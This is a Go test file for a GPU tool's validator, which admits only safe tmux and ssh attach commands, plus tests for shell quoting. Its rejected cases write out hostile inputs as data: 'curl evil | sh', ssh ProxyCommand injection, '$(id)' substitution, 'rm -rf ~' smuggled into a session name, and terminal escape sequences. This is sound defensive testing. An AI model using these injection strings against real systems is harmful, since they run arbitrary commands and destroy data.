package api

import (
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"

	"github.com/dibs-gpu/dibs/launch"
)

func TestCheckAttachCommand(t *testing.T) {
	alice := launch.User{Name: "alice", UID: 1000, GID: 1000}
	// What agents send today, straight from launch, so the two cannot drift.
	plain := launch.New(launch.Options{}).AttachCommand(alice, "dibs-node01-7")
	withSocket := launch.New(launch.Options{TmuxTmpDir: "/tmp/dibs-tmux-123", TmuxPath: "/usr/local/bin/tmux"}).AttachCommand(alice, "train_2")
	tests := []struct {
		name string
		argv []string
		ok   bool
	}{
		{"local tmux", plain, true},
		{"tmux by path with a socket", withSocket, true},
		{"ssh to another node", append([]string{"ssh", "-t", "node02"}, plain...), true},
		{"ssh with a socket", append([]string{"ssh", "-t", "10.0.0.2"}, withSocket...), true},

		{"empty", nil, false},
		{"a shell", []string{"sh", "-c", "curl evil | sh"}, false},
		{"ssh ProxyCommand instead of -t", []string{"ssh", "-oProxyCommand=sh -c 'id > /tmp/x'", "node02", "tmux", "attach-session", "-t", "=x"}, false},
		{"ssh ProxyCommand after -t", []string{"ssh", "-t", "-oProxyCommand=sh -c id", "node02", "tmux", "attach-session", "-t", "=x"}, false},
		{"ssh host that is an option", []string{"ssh", "-t", "-J", "tmux", "attach-session", "-t", "=x"}, false},
		{"ssh running a shell", []string{"ssh", "-t", "node02", "sh", "-c", "id"}, false},
		{"ssh host only", []string{"ssh", "-t", "node02"}, false},
		{"remote shell syntax in the name", []string{"ssh", "-t", "node02", "tmux", "attach-session", "-t", "=x;rm -rf ~"}, false},
		{"command substitution in the socket", []string{"ssh", "-t", "node02", "tmux", "-S", "/tmp/$(id)", "attach-session", "-t", "=x"}, false},
		{"tmux running a command", []string{"tmux", "new-session", "sh"}, false},
		{"tmux with a trailing command", []string{"tmux", "attach-session", "-t", "=x", ";", "run-shell", "id"}, false},
		{"tmux config from elsewhere", []string{"tmux", "-f", "/tmp/evil.conf", "attach-session", "-t", "=x"}, false},
		{"target without =", []string{"tmux", "attach-session", "-t", "x"}, false},
		{"relative tmux path", []string{"./tmux", "attach-session", "-t", "=x"}, false},
		{"a binary merely starting with tmux", []string{"/usr/bin/tmuxx", "attach-session", "-t", "=x"}, false},
		{"socket that is an option", []string{"tmux", "-S", "-Lx", "attach-session", "-t", "=x"}, false},
		{"escape sequence in the name", []string{"tmux", "attach-session", "-t", "=x\x1b]0;hi\x07"}, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := CheckAttachCommand(tc.argv)
			if tc.ok {
				if err != nil {
					t.Errorf("CheckAttachCommand(%q) = %v, want accepted", tc.argv, err)
				}
				return
			}
			if err == nil {
				t.Fatalf("CheckAttachCommand(%q) accepted it", tc.argv)
			}
			msg := err.Error()
			if len(tc.argv) > 0 && !strings.Contains(msg, ": "+QuoteArgv(tc.argv)+" (nothing was run;") {
				t.Errorf("refusal does not show the command quoted: %s", msg)
			}
			if strings.ContainsFunc(msg, func(r rune) bool { return r < 0x20 || r == 0x7f }) {
				t.Errorf("refusal carries control characters: %q", msg)
			}
		})
	}
}

func TestQuoteArgv(t *testing.T) {
	tests := []struct {
		argv []string
		want string
	}{
		{[]string{"tmux", "attach-session", "-t", "=dibs-1"}, "tmux attach-session -t =dibs-1"},
		{[]string{"sh", "-c", "echo pwned; rm -rf ~"}, `sh -c 'echo pwned; rm -rf ~'`},
		{[]string{"it's"}, `'it'\''s'`},
		{[]string{""}, `''`},
		{[]string{"ssh", "-oProxyCommand=sh -c id"}, `ssh '-oProxyCommand=sh -c id'`},
		{[]string{"\x1b]0;owned\x07"}, `$'\x1b]0;owned\x07'`},
		{[]string{"a\nb", `c\'d`}, `$'a\x0ab' 'c\'\''d'`},
		{[]string{"x\u202eexe.txt"}, `$'x\u202eexe.txt'`},
		{[]string{"bad\xffbyte's"}, `$'bad\xffbyte\'s'`},
		{[]string{"naïve"}, `'naïve'`},
	}
	for _, tc := range tests {
		if got := QuoteArgv(tc.argv); got != tc.want {
			t.Errorf("QuoteArgv(%q) = %s, want %s", tc.argv, got, tc.want)
		}
	}
	long := make([]string, 500)
	for i := range long {
		long[i] = "\x1bwordword"
	}
	got := QuoteArgv(long)
	if !strings.HasSuffix(got, "… (cut; 500 words in all)") || len(got) > maxQuoted+100 {
		t.Errorf("long argv: %d bytes, ends %q", len(got), got[len(got)-40:])
	}
}

// TestAttachPartsMatchTheirPatterns: the byte-by-byte checks accept exactly
// what the patterns they replace accept, at and around every bound.
func TestAttachPartsMatchTheirPatterns(t *testing.T) {
	checks := []struct {
		name    string
		check   func(string) bool
		pattern *regexp.Regexp
		chars   string
		max     int
	}{
		{"sessionTarget", sessionTarget, regexp.MustCompile(`^=[A-Za-z0-9_][A-Za-z0-9_-]{0,127}$`), "=aZ9_-./ :x", 129},
		{"safePath", safePath, regexp.MustCompile(`^/[A-Za-z0-9_][A-Za-z0-9._/-]{0,999}$`), "/aZ9_-./ =:", 1001},
		{"sshHost", sshHost, regexp.MustCompile(`^[A-Za-z0-9][A-Za-z0-9._-]{0,252}$`), "aZ9_-. /=", 253},
		{"plainWord", plainWord, regexp.MustCompile(`^[A-Za-z0-9_@%+=:,./-]+$`), "aZ9_@%+=:,./- '$\"\x1b", 300},
	}
	r := rand.New(rand.NewPCG(1, 2))
	for _, c := range checks {
		var words []string
		for _, n := range []int{0, 1, 2, 3, c.max - 1, c.max, c.max + 1} {
			for range 200 {
				b := make([]byte, max(n, 0))
				for i := range b {
					b[i] = c.chars[r.IntN(len(c.chars))]
				}
				words = append(words, string(b))
			}
			// The all-valid word of each length, which random picks rarely make.
			words = append(words, c.chars[:1]+strings.Repeat("a", max(n-1, 0)))
		}
		for _, w := range words {
			if got, want := c.check(w), c.pattern.MatchString(w); got != want {
				t.Errorf("%s(%q) = %v, the pattern says %v", c.name, w, got, want)
			}
		}
	}
}
